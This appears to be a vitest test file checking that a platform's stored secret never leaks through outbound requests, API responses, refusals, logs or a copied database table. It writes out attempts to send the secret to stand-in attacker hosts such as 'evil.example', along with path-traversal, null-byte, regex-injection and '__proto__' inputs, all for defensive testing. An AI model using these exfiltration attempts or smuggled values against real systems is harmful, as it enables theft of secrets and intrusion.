/** Ways to have a secret's value told: by requests, logs, errors, the API, other people, other secrets, the database. */
import { pino } from 'pino'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { createRedactor } from '../../platform/access/redactor.ts'
import type { RoleDocument } from '../../platform/contract/documents.ts'
import { platformRights } from '../../platform/contract/documents.ts'
import { type Call, freshApp } from '../support/answers.ts'

const app = await freshApp()
const { services } = app
const admin = app.administrator.call
const value = 'Vx9!never "told"\\ 秘密 &=?/+ to anybody'
let rightful: Call
let cases = 0
afterAll(() => console.log(`${cases} ways to have a secret told`))

/** Everything that may be granted but being an administrator. */
const all: RoleDocument = {
  kind: 'role',
  id: 'all',
  rights: platformRights.filter(right => right !== 'organisation'),
  entities: {},
}

beforeAll(async () => {
  await app.apply({ roles: [all] })
  rightful = (await app.person({ roles: ['all'] })).call
  await admin('PUT', '/api/secrets/hidden', { body: { value, hosts: ['erp.example.com'], description: 'x' } })
})

const bytes = Buffer.from(value)
const forms = [
  value,
  JSON.stringify(value),
  JSON.stringify({ deep: [value] }),
  encodeURIComponent(value),
  new URLSearchParams({ k: value }).toString(),
  bytes.toString('hex'),
  bytes.toString('hex').toUpperCase(),
  ...['', 'a', 'ab', 'user:'].flatMap(start => {
    const whole = Buffer.concat([Buffer.from(start), bytes, Buffer.from(':tail')])
    return [whole.toString('base64'), whole.toString('base64url')]
  }),
]
const isTold = (text: string) => forms.some(form => text.includes(form)) || /Vx9!never/.test(text)

test('no request takes it to another host, in any form and place', async () => {
  const sent: string[] = []
  const fetch = services.outbound.fetchFor({
    capture: ({ url }) => {
      sent.push(url.hostname)
      return Response.json({})
    },
  })
  const hosts = ['evil.example', 'erp.example.com.evil.example', 'xerp.example.com', 'a.erp.example.com', 'example.com']
  for (const host of hosts)
    for (const form of forms) {
      const ways: [string, RequestInit][] = [
        [`https://${host}/`, { method: 'POST', body: form }],
        [`https://${host}/`, { method: 'POST', body: JSON.stringify({ a: { b: [form] } }) }],
        [`https://${host}/?k=${encodeURIComponent(form)}`, {}],
      ]
      for (const [url, init] of ways) {
        cases++
        const error = await fetch(url, init).catch((error: { code: string; message: string }) => error)
        expect(
          [(error as { code?: string }).code, isTold((error as { message: string }).message)],
          `${url} ${form}`,
        ).toEqual(['secret-not-for-host', false])
      }
    }
  expect(sent).toEqual([])
  await fetch('https://ERP.example.com./', { method: 'POST', body: value })
  expect(sent).toEqual(['erp.example.com.'])
})

test('nobody reads it, with every right there is, nor changes whose it is', async () => {
  const paths = [
    '/api/secrets',
    '/api/secrets/hidden',
    '/api/audit',
    '/api/openapi.json',
    '/api/webhooks/received',
    '/api/me',
  ]
  for (const path of paths) {
    cases++
    expect(isTold((await rightful('GET', path)).text)).toBe(false)
    expect(isTold((await admin('GET', path)).text)).toBe(false)
  }
  for (const body of [
    { hosts: null },
    { hosts: ['evil.example'] },
    { value: 'another value' },
    { description: 'mine' },
  ]) {
    cases++
    expect((await rightful('PUT', '/api/secrets/hidden', { body })).status).toBe(403)
  }
  for (const name of ['../secrets/hidden', 'hidden%00', 'hidden/', 'HIDDEN', 'hidden%2f..'])
    expect((await rightful('DELETE', `/api/secrets/${name}`)).status).toBeGreaterThanOrEqual(400)
  expect(await services.secrets.get('hidden')).toBe(value)
})

test('no refusal repeats it', async () => {
  const bodies = [
    { value, more: value },
    { value, hosts: [value] },
    { value: [value] },
    { value, description: value.repeat(20) },
  ]
  for (const body of bodies) {
    cases++
    const answer = await admin('PUT', '/api/secrets/other', { body })
    expect([answer.status, isTold(answer.text)]).toEqual([422, false])
  }
  const broken = await admin('PUT', '/api/secrets/other', { body: `{"value":${JSON.stringify(value)},` })
  expect([broken.status, isTold(broken.text)]).toEqual([400, false])
})

test('the log’s lines are without it, however it got into them', () => {
  const redactor = createRedactor()
  redactor.remember('hidden', value)
  const lines: string[] = []
  const log = pino({ hooks: { streamWrite: redactor.text } }, { write: line => void lines.push(line) })
  for (const form of forms) {
    cases++
    log.info({ headers: { authorization: form } }, `sent ${form}`)
    log.error({ err: new Error(`refused ${form}`, { cause: { body: form } }) }, 'failed')
  }
  expect(lines).toHaveLength(2 * forms.length)
  expect(lines.filter(isTold)).toEqual([])
  for (const line of lines) expect(() => JSON.parse(line)).not.toThrow()
})

test('the redactor is not led astray: by names, patterns, or much of it', () => {
  const redactor = createRedactor()
  for (const [name, secret] of [
    ['a', '.*+?^$'],
    ['b', '$&$1$`'],
    ['c', '[secret:a]x'],
    ['d', 'aaaaaa'],
    ['e', 'aaaaaaaa'],
  ] as const)
    redactor.remember(name, secret)
  expect(redactor.text('x.*+?^$y|$&$1$`|zzz')).toBe('x[secret:a]y|[secret:b]|zzz')
  expect(redactor.text('aaaaaaaa')).toBe('[secret:e]')
  const begun = performance.now()
  redactor.text('ab'.repeat(2_000_000))
  redactor.json(Array.from({ length: 20_000 }, (_, index) => ({ index, text: 'some text' })))
  expect(performance.now() - begun).toBeLessThan(5_000)
  const proto = JSON.parse('{"__proto__":{"aaaaaa":1}}')
  expect(Object.hasOwn(redactor.json(proto), '__proto__')).toBe(true)
  expect(({} as { x?: number }).x).toBeUndefined()
})

test('a table that was copied is of no use: values belong to their names, and to the installation', async () => {
  const { rows } = await services.database.query<{ sealed: string }>({
    text: `select sealed from enishi.secret where name = 'hidden'`,
  })
  const { sealed } = rows[0]!
  expect(isTold(sealed)).toBe(false)
  const set = (text: string) =>
    services.database.query({ text: `update enishi.secret set sealed = $1 where name = 'hidden'` }, [text])
  const flipped = sealed.slice(0, -1) + (sealed.endsWith('A') ? 'B' : 'A')
  for (const wrong of [flipped, sealed.slice(0, -5), sealed.replace(/^e1\.[^.]+/, 'e1.00000000'), '', 'e1..', value]) {
    cases++
    await set(wrong)
    await expect(services.secrets.get('hidden')).rejects.toMatchObject({ code: 'secret-unreadable' })
  }
  await set(sealed)
  expect(await services.secrets.get('hidden')).toBe(value)
})
